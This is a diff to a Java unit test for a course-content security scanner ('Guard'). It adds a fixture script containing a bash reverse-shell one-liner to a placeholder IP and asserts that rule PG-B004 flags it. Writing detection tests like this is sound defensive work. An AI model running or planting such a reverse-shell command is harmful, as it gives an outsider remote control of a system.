@@ -49,12 +49,15 @@ class GuardTest {
         Path ex = Files.createDirectories(c.resolve("content/01_m/01_e"));
         Files.writeString(ex.resolve("README.md"), "# E\n");
         Files.writeString(ex.resolve("exercise.sh"), "exit 0\n");
+        Files.createDirectories(c.resolve("runner"));
+        Files.writeString(c.resolve("runner/check.sh"), "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n");
         GuardReport r = Guard.check(c);
         assertThat(r.passed()).isFalse();
+        assertThat(r.findings()).extracting(f -> f.rule().id() + " " + f.location()).contains("PG-B004 runner/check.sh:2");
         assertThat(r.course()).isEqualTo("hostile");
         assertThat(r.findings()).extracting(f -> f.rule().id() + " " + f.location()).contains(
                 "PG-D005 Dockerfile:2", "PG-N001 course.json", "PG-C001 docker-compose.yml");
-        assertThat(r.count(Severity.ERROR)).isEqualTo(2);
+        assertThat(r.count(Severity.ERROR)).isEqualTo(3);
     }
 
     @Test
